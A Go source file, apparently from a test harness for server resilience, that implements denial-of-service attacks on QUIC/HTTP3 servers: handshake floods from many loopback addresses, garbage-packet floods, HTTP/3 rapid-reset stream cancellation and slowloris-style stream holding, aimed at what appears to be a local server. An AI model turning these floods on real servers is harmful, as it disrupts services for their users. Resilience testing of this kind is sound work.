//go:build linux

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"time"

	"github.com/quic-go/qpack"
	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
)

var clientTLS = &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h3"}, ServerName: "localhost"}

// Codes of errors (RFC 9114, section 8.1).
const (
	noError          = 0x100
	requestCancelled = 0x10c
)

// A silentSocket loses what the server says.
type silentSocket struct{ net.PacketConn }

func (s silentSocket) ReadFrom([]byte) (int, net.Addr, error) {
	var none [1]byte
	for {
		if _, _, err := s.PacketConn.ReadFrom(none[:]); err != nil {
			return 0, nil, err
		}
	}
}

// hello sends the beginning of a handshake from an address, as often as a client repeats it.
func hello(ctx context.Context, from net.IP, to *net.UDPAddr, held *holding) error {
	socket, err := net.ListenUDP("udp", &net.UDPAddr{IP: from})
	if err != nil {
		return err
	}
	held.add(func() { _ = socket.Close() })
	go quic.Dial(ctx, silentSocket{socket}, to, clientTLS, &quic.Config{HandshakeIdleTimeout: time.Hour})
	return nil
}

// holdHello begins handshakes from so many addresses.
func holdHello(ctx context.Context, address string, units int, from func(i int) net.IP) (int, func(), error) {
	var held holding
	ctx, cancel := context.WithCancel(ctx)
	held.add(cancel)
	to, err := net.ResolveUDPAddr("udp", address)
	if err != nil {
		return 0, held.release, err
	}
	done, err := each(units, func(i int) error { return hello(ctx, from(i), to, &held) })
	return done, held.release, err
}

func holdHelloQUIC(ctx context.Context, address string, units int) (int, func(), error) {
	return holdHello(ctx, address, units, attackerIP)
}

func holdSpoofedQUIC(ctx context.Context, address string, units int) (int, func(), error) {
	return holdHello(ctx, address, units, func(i int) net.IP { return net.IPv4(127, 1, byte(i>>8), byte(i)) })
}

func garbageQUIC(ctx context.Context, address string, units int) (int, func(), error) {
	socket, err := net.Dial("udp", address)
	if err != nil {
		return 0, func() {}, err
	}
	packet := garbage(1200)
	for i := range units {
		if _, err = socket.Write(packet); err != nil || ctx.Err() != nil {
			break
		}
		copy(packet[1:], garbage(20))
		if i%20 == 19 { // what the server can take
			time.Sleep(time.Millisecond)
		}
	}
	return units, func() { _ = socket.Close() }, errors.Join(err, ctx.Err())
}

// dialQUIC opens the i-th connection of the attacker, with a control stream.
func dialQUIC(ctx context.Context, address string, i int, config *quic.Config) (*quic.Conn, func(), error) {
	to, err := net.ResolveUDPAddr("udp", address)
	if err != nil {
		return nil, nil, err
	}
	socket, err := net.ListenUDP("udp", &net.UDPAddr{IP: attackerIP(i)})
	if err != nil {
		return nil, nil, err
	}
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	conn, err := quic.Dial(ctx, socket, to, clientTLS, config)
	if err == nil {
		var control *quic.SendStream
		if control, err = conn.OpenUniStream(); err == nil {
			_, err = control.Write([]byte{0, 4, 0}) // empty SETTINGS
		}
	}
	if err != nil {
		_ = socket.Close()
		return nil, nil, err
	}
	return conn, func() {
		_ = conn.CloseWithError(noError, "")
		_ = socket.Close()
	}, nil
}

func handshakeQUIC(ctx context.Context, address string, units int) (int, func(), error) {
	done, err := each(units, func(i int) error {
		_, end, err := dialQUIC(ctx, address, i, nil)
		if err == nil {
			end()
		}
		return err
	})
	return done, func() {}, err
}

// http3Head returns the frame HEADERS of a request.
func http3Head(method, path string) []byte {
	var section bytes.Buffer
	encoder := qpack.NewEncoder(&section)
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}} {
		_ = encoder.WriteField(qpack.HeaderField{Name: f[0], Value: f[1]})
	}
	if method == "POST" {
		_ = encoder.WriteField(qpack.HeaderField{Name: "content-length", Value: "1000"})
	}
	return append(quicvarint.Append([]byte{1}, uint64(section.Len())), section.Bytes()...)
}

func rapidResetHTTP3(ctx context.Context, address string, units int) (int, func(), error) {
	head := http3Head("GET", "/hang")
	done, err := eachConnection(units/streams, func(i int) (int, error) {
		conn, end, err := dialQUIC(ctx, address, i, nil)
		if err != nil {
			return 0, err
		}
		defer end()
		for n := range streams {
			s, err := conn.OpenStreamSync(conn.Context())
			if err == nil {
				_, err = s.Write(head)
			}
			if err != nil {
				return n, nil // the server has ended the connection
			}
			_ = s.Close() // a reset of this direction would overtake the head
			s.CancelRead(requestCancelled)
		}
		// Its answer comes after the server has seen the others; the end would overtake them.
		if s, err := conn.OpenStreamSync(conn.Context()); err == nil {
			_, _ = s.Write(http3Head("GET", "/"))
			_ = s.Close()
			_, _ = io.Copy(io.Discard, s)
		}
		return streams, nil
	})
	return done, func() {}, err
}

// holdHTTP3 holds streams on each of which the attacker has sent a beginning.
func holdHTTP3(ctx context.Context, address string, units int, config *quic.Config, beginning []byte, ends bool) (int, func(), error) {
	var held holding
	done, err := eachConnection(units/streams, func(i int) (int, error) {
		conn, end, err := dialQUIC(ctx, address, i, config)
		if err != nil {
			return 0, err
		}
		held.add(end)
		for n := range streams {
			s, err := conn.OpenStream()
			if err == nil {
				_, err = s.Write(beginning)
			}
			if err != nil {
				return n, nil
			}
			if ends {
				_ = s.Close()
			}
			go func() { // what is not read keeps its window
				if config == nil {
					_, _ = io.Copy(io.Discard, s)
				}
			}()
		}
		return streams, nil
	})
	return done, held.release, err
}

func holdBodiesHTTP3(ctx context.Context, address string, units int) (int, func(), error) {
	return holdHTTP3(ctx, address, units, nil, http3Head("POST", "/"), false)
}

func holdHeadsHTTP3(ctx context.Context, address string, units int) (int, func(), error) {
	head := http3Head("GET", "/")
	return holdHTTP3(ctx, address, units, nil, head[:len(head)/2], false)
}

func holdReadersHTTP3(ctx context.Context, address string, units int) (int, func(), error) {
	config := &quic.Config{InitialStreamReceiveWindow: 1024, MaxStreamReceiveWindow: 1024}
	return holdHTTP3(ctx, address, units, config, http3Head("GET", "/long"), true)
}
